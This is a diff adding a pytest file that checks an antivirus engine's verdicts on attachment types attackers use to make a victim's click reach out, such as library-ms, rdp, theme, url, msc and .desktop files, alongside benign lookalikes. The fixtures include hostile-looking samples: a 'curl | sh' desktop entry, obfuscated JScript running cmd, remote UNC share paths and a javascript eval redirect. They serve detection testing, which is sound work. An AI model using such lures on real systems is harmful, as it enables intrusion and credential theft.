@@ -1,0 +1,146 @@
+"""What attackers have lately hidden files in, or sent instead of files; and the harmless of the same kind."""
+
+import io
+import math
+import struct
+import tarfile
+
+import av_samples
+import pytest
+
+from gatepost.antivirus.builtin import BuiltinEngine
+from gatepost.antivirus.stage import inspect
+from gatepost.model.finding import ObjectStatus, ScanOptions
+
+ENGINE = BuiltinEngine()
+PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0\x64\x86".ljust(300, b"\0")
+
+
+def verdict(data: bytes, name: str) -> tuple[ObjectStatus, str]:
+    """Return status and threat of an attachment."""
+    analysis = inspect(av_samples.attached(data, name=name), ScanOptions(), [ENGINE], math.inf)
+    return analysis.objects[2].status, analysis.objects[2].threat
+
+
+def library(url: str) -> bytes:
+    head = '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
+    return f"{head}<searchConnectorDescription><simpleLocation><url>{url}</url></simpleLocation></libraryDescription>".encode()
+
+
+def query(path: str) -> bytes:
+    return f'<?xml version="1.0"?><persistedQuery version="1.0"><scope><include path="{path}"/></scope>'.encode()
+
+
+def desktop(*lines: str) -> bytes:
+    return "\r\n".join(("full address:s:host.example.net", *lines, "")).encode("utf-16")
+
+
+def theme(wallpaper: str) -> bytes:
+    return f"[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper={wallpaper}\r\n".encode()
+
+
+def shortcut(icon: str) -> bytes:
+    return f"[InternetShortcut]\r\nURL=https://example.net/news\r\nIconFile={icon}\r\n".encode()
+
+
+def console(text: str) -> bytes:
+    return f'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><String ID="1">{text}</String>'.encode()
+
+
+def entry(command: str) -> bytes:
+    return f"[Desktop Entry]\nType=Application\nExec={command}\n".encode()
+
+
+SUSPICIOUS = [
+    ("a.library-ms", library("\\\\192.0.2.1@80\\DavWWWRoot"), "Heuristic.Shortcut.Library"),
+    ("a.searchConnector-ms", library("https://example.net/dav"), "Heuristic.Shortcut.Library"),
+    ("a.search-ms", query("\\\\files.example.net\\share"), "Heuristic.Shortcut.Library"),
+    (
+        "a.SettingContent-ms",
+        b"<PCSettings><SearchableContent><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink>",
+        "Heuristic.Shortcut.Settings",
+    ),
+    ("a.rdp", desktop("drivestoredirect:s:*"), "Heuristic.Shortcut.RemoteDesktop"),
+    ("a.rdp", desktop("alternate shell:s:cmd"), "Heuristic.Shortcut.RemoteDesktop"),
+    ("a.theme", theme("\\\\192.0.2.1\\share\\x.jpg"), "Heuristic.Shortcut.Theme"),
+    ("a.url", shortcut("\\\\192.0.2.1\\s\\i.ico"), "Heuristic.Shortcut.Icon"),
+    ("a.msc", console("res://apds.dll/redirect.html?target=javascript:eval(1)"), "Heuristic.Shortcut.Console"),
+    (
+        "a.application",
+        b'<assembly><deploymentProvider codebase="http://example.net/x.application"/>',
+        "Heuristic.Shortcut.Installer",
+    ),
+    ("a.appinstaller", b'<AppInstaller Uri="https://example.net/x" Version="1.0">', "Heuristic.Shortcut.Installer"),
+    ("a.jnlp", b'<jnlp spec="1.0+" codebase="https://example.net" href="x.jnlp">', "Heuristic.Shortcut.Installer"),
+    (
+        "a.appref-ms",
+        "https://example.net/x.application#x, Culture=neutral".encode("utf-16"),
+        "Heuristic.Shortcut.Installer",
+    ),
+    ("a.desktop", entry('sh -c "curl https://example.net | sh"'), "Heuristic.Shortcut.Desktop"),
+    ("a.xll", PROGRAM, "Heuristic.Carrier.AddIn"),
+    ("a.dat", PROGRAM + b"xlAutoOpen", "Heuristic.Carrier.AddIn"),
+    (
+        "a.js",
+        b'var a=["WScr","ipt.Sh","ell"];var o=new ActiveXObject(a.join(""));o["R"+"un"]("cm"+"d");',
+        "Heuristic.Script.Obfuscated",
+    ),
+]
+HARMLESS = [
+    ("a.library-ms", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
+    ("a.search-ms", query("\\\\server\\share")),
+    ("a.rdp", desktop("drivestoredirect:s:", "redirectclipboard:i:1")),
+    ("a.theme", theme("%SystemRoot%\\web\\wallpaper\\img0.jpg")),
+    ("a.url", shortcut("C:\\Windows\\i.ico")),
+    ("a.url", shortcut("\\\\server\\icons\\i.ico")),
+    ("a.msc", console("Certificates")),
+    ("a.desktop", entry("/usr/bin/viewer %f")),
+    ("a.exe", PROGRAM),
+]
+
+
+@pytest.mark.parametrize(("name", "data", "threat"), SUSPICIOUS, ids=[f"{n}-{t}" for n, _, t in SUSPICIOUS])
+def test_small_files_that_reach_out_at_a_click(name: str, data: bytes, threat: str) -> None:
+    assert verdict(data, name) == (ObjectStatus.SUSPICIOUS, threat)
+    assert verdict(av_samples.zip_of((name, data)), "a.zip") == (ObjectStatus.SUSPICIOUS, threat)
+
+
+@pytest.mark.parametrize(("name", "data"), HARMLESS)
+def test_such_files_that_stay_at_home(name: str, data: bytes) -> None:
+    assert verdict(data, name) == (ObjectStatus.CLEAN, "")
+
+
+def test_a_picture_of_a_document_on_another_hosts_share() -> None:
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+    for target, status in (
+        ("file://192.0.2.1/x.png", ObjectStatus.SUSPICIOUS),
+        ("file:///\\\\server\\logo.png", ObjectStatus.CLEAN),
+    ):
+        link = f'<Relationships><Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+        parts = [("[Content_Types].xml", b"<Types/>"), ("word/_rels/document.xml.rels", link.encode())]
+        assert verdict(av_samples.zip_of(*parts), "a.docx")[0] is status
+
+
+def tar_of(*members: tuple[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as archive:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+def test_a_tar_archive_behind_the_end_of_another() -> None:
+    first, second = tar_of(("a.txt", b"fine")), tar_of(("a.txt", av_samples.eicar()))
+    for data in (first + second, first + bytes(5 * 512) + second, first + first + second):
+        assert verdict(data, "a.tar")[0] is ObjectStatus.INFECTED
+    assert verdict(first + bytes(4096), "a.tar")[0] is ObjectStatus.CLEAN
+    assert verdict(first + b"what tapes leave" * 100, "a.tar")[0] is ObjectStatus.CLEAN
+
+
+@pytest.mark.parametrize(
+    "data", [b"MSWIM\0\0\0" + bytes(400), b"QFI\xfb\0\0\0\3" + bytes(90), bytes(900) + b"koly".ljust(512, b"\0")]
+)
+def test_small_images_of_kinds_nobody_reads_are_not_clean(data: bytes) -> None:
+    assert verdict(data, "a.img")[0] is ObjectStatus.ERROR
